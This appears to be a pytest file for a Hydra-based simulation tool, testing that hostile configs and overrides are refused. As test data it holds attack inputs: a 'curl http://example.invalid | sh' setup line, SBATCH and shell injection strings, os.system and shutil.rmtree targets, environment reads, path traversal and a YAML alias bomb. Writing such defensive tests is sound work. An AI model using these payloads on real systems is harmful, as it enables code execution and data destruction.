"""Configs are data: a hostile config file cannot run code, read the environment, write
outside the job's folder, or hang the reader; each is refused with its key and exit 2.
(tests/broken_configs/experiment/ holds one preset per hole, checked in tests/test_sweeps.py.)"""

import os
import shutil
import subprocess
import sys
import time

import pytest
from hydra import compose, initialize_config_dir

import sim as sim_api
from sim.domain.errors import ConfigError
from sim.experiment.config import CONFIGS, register
from sim.experiment.safety import MAX_FILE_BYTES, check_composed, read_config


def sim(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "sim", *args], capture_output=True, text=True, cwd=cwd)


def test_a_callback_in_a_preset_writes_nothing_anywhere(tmp_path):
    configs, out, owned = tmp_path / "configs", tmp_path / "out", tmp_path / "owned.txt"
    (configs / "experiment").mkdir(parents=True)
    (configs / "experiment" / "evil.yaml").write_text(
        "# @package _global_\n"
        "hydra:\n  callbacks:\n    copy:\n"
        f"      _target_: shutil.copyfile\n      src: {configs / 'experiment' / 'evil.yaml'}\n"
        f"      dst: {owned}\n"
    )
    done = sim("--config-dir", str(configs), "--multirun", "+experiment=evil", f"hydra.sweep.dir={out}")
    assert done.returncode == 2, done.stderr[-1500:]
    assert "hydra.callbacks.copy._target_" in done.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["configs"]  # no owned.txt, no out/


def test_a_callback_on_the_command_line_is_refused(tmp_path):
    done = sim(
        "+hydra.callbacks.x._target_=shutil.rmtree",
        f"+hydra.callbacks.x.path={tmp_path}",
        f"hydra.run.dir={tmp_path}/out",
    )
    assert done.returncode == 2 and "hydra.callbacks.x._target_" in done.stderr
    assert tmp_path.exists() and not (tmp_path / "out").exists()


def test_alias_bombs_and_huge_files_are_refused_unread_in_seconds(tmp_path):
    bomb = tmp_path / "bomb" / "scenario"
    bomb.mkdir(parents=True)
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * 9)}]" for k in range(1, 10)]
    (bomb / "laughs.yaml").write_text("\n".join(levels) + "\n")  # 9^10 values once expanded
    big = tmp_path / "big" / "scenario"
    big.mkdir(parents=True)
    (big / "big.yaml").write_text("name: big\n" + "# padding\n" * (MAX_FILE_BYTES // 10 + 1))
    deep = tmp_path / "deep" / "scenario"
    deep.mkdir(parents=True)
    (deep / "deep.yaml").write_text("a: " + "[" * 5000 + "]" * 5000 + "\n")
    cases = (
        (bomb.parent, "aliases expand"),
        (big.parent, "a config file may hold at most"),
        (deep.parent, "nested too deeply"),
    )
    for folder, message in cases:
        start = time.perf_counter()
        done = sim("--config-dir", str(folder), f"hydra.run.dir={tmp_path}/out")
        assert time.perf_counter() - start < 10
        assert done.returncode == 2 and message in done.stderr, done.stderr[-1000:]
    assert not (tmp_path / "out").exists()


def test_an_unknown_option_is_refused_not_passed_to_hydra(tmp_path):
    done = sim("--config-name=other", f"hydra.run.dir={tmp_path}/out")
    assert done.returncode == 2 and "not an option of python -m sim" in done.stderr


@pytest.mark.parametrize("launcher", ["joblib", "basic", "submitit_local", "slurm"])
def test_the_project_own_configs_pass_under_every_launcher(launcher):
    register()
    with initialize_config_dir(config_dir=CONFIGS, version_base="1.3"):
        check_composed(compose("config", overrides=[f"hydra/launcher={launcher}"], return_hydra_config=True))


@pytest.mark.parametrize(
    ("override", "key"),
    [
        ("+hydra.job_logging.formatters.x.class=os.system", "hydra.job_logging.formatters.x.class"),
        (
            "hydra.job_logging.handlers.console.stream=ext://os.environ",
            "hydra.job_logging.handlers.console.stream",
        ),
        (
            "hydra.job_logging.handlers.console.class=shutil.rmtree",
            "hydra.job_logging.handlers.console.class",
        ),
        (
            "hydra.job_logging.handlers.file.filename=${hydra.runtime.output_dir}/../x.log",
            "hydra.job_logging.handlers.file.filename",
        ),
        ("+hydra.launcher.x._target_=os.system", "hydra.launcher.x._target_"),
        ("hydra.sweeper._target_=os.system", "hydra.sweeper._target_"),
        ("scenario.name=${oc.decode:'1'}", "scenario.name"),
        ("hydra.output_subdir=/tmp/elsewhere", "hydra.output_subdir"),
        ("hydra.job.config.override_dirname.item_sep=/", "hydra.job.config.override_dirname.item_sep"),
        ("hydra.job.env_copy=[HOME]", "hydra.job.env_copy"),
        ("hydra.launcher.temp_folder=/etc", "hydra.launcher.temp_folder"),
        ("hydra.sweep.subdir=../../elsewhere", "hydra.sweep.subdir"),
    ],
)
def test_logging_and_plugin_settings_that_would_run_code_are_refused(override, key):
    register()
    with initialize_config_dir(config_dir=CONFIGS, version_base="1.3"):
        cfg = compose("config", overrides=[override], return_hydra_config=True)
    with pytest.raises(ConfigError) as err:
        check_composed(cfg)
    assert err.value.key == key


@pytest.mark.parametrize(
    ("override", "key"),
    [
        ("hydra.launcher.setup=['curl http://example.invalid | sh']", "hydra.launcher.setup"),
        ("+hydra.launcher.additional_parameters={wrap: id}", "hydra.launcher.additional_parameters"),
        ("hydra.launcher.partition='short\n#SBATCH --wrap=id'", "hydra.launcher.partition"),
        ("hydra.launcher.account='a;id'", "hydra.launcher.account"),
        ("hydra.launcher.submitit_folder=/tmp/x/%j", "hydra.launcher.submitit_folder"),
        ("hydra.launcher.cpus_per_task=0", "hydra.launcher.cpus_per_task"),
    ],
)
def test_cluster_settings_that_would_reach_the_sbatch_script_are_refused(override, key):
    """The slurm launcher writes these into a shell script: shell lines, extra #SBATCH
    directives and anything that is not one plain word are refused."""
    register()
    with initialize_config_dir(config_dir=CONFIGS, version_base="1.3"):
        cfg = compose("config", overrides=["hydra/launcher=slurm", override], return_hydra_config=True)
    with pytest.raises(ConfigError) as err:
        check_composed(cfg)
    assert err.value.key == key


def test_a_searchpath_folder_is_checked_before_hydra_reads_it(tmp_path):
    bomb = tmp_path / "extra" / "scenario"
    bomb.mkdir(parents=True)
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * 9)}]" for k in range(1, 10)]
    (bomb / "laughs.yaml").write_text("\n".join(levels) + "\n")
    start = time.perf_counter()
    done = sim(f"hydra.searchpath=[file://{bomb.parent}]", "scenario=laughs", f"hydra.run.dir={tmp_path}/out")
    assert time.perf_counter() - start < 10
    assert done.returncode == 2 and "aliases expand" in done.stderr, done.stderr[-800:]
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("kind", ["folder", "fifo", "device", "latin1"])
def test_special_and_non_utf8_files_in_a_config_folder_are_refused_unread(tmp_path, kind):
    folder = tmp_path / "configs" / "scenario"
    folder.mkdir(parents=True)
    path = folder / "odd.yaml"
    if kind == "folder":
        path.mkdir()
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    else:
        path.write_bytes("name: caf\u00e9\n".encode("latin-1"))
    start = time.perf_counter()
    done = sim("--config-dir", str(folder.parent), f"hydra.run.dir={tmp_path}/out")
    assert time.perf_counter() - start < 10
    assert done.returncode == 2 and str(path) in done.stderr, done.stderr[-800:]
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "override",
    ["scenario.name=${oc.env:HOME}", "scenario.departments.market.reviewers=${oc.env:SHLVL}"],
)
def test_load_scenario_resolves_no_environment(override):
    with pytest.raises(ConfigError) as err:
        sim_api.load_scenario("restaurant", [override])
    assert "oc.env" in str(err.value)


def test_a_results_folder_is_read_as_untrusted_data(tmp_path):
    """A shared results folder whose saved config reads the environment is refused, unresolved."""
    (tmp_path / "job" / ".hydra").mkdir(parents=True)
    (tmp_path / "job" / ".hydra" / "config.yaml").write_text("scenario:\n  name: ${oc.env:HOME}\n")
    with pytest.raises(ConfigError) as err:
        read_config(tmp_path / "job" / ".hydra" / "config.yaml")
    assert err.value.key == "scenario.name"


@pytest.mark.skipif(shutil.which("sbatch") is not None, reason="this machine is a SLURM node")
def test_slurm_without_slurm_is_refused_before_any_folder(tmp_path):
    done = sim("--multirun", "hydra/launcher=slurm", f"hydra.sweep.dir={tmp_path}/out")
    assert done.returncode == 2 and "hydra/launcher: slurm needs SLURM's sbatch" in done.stderr
    assert not (tmp_path / "out").exists()
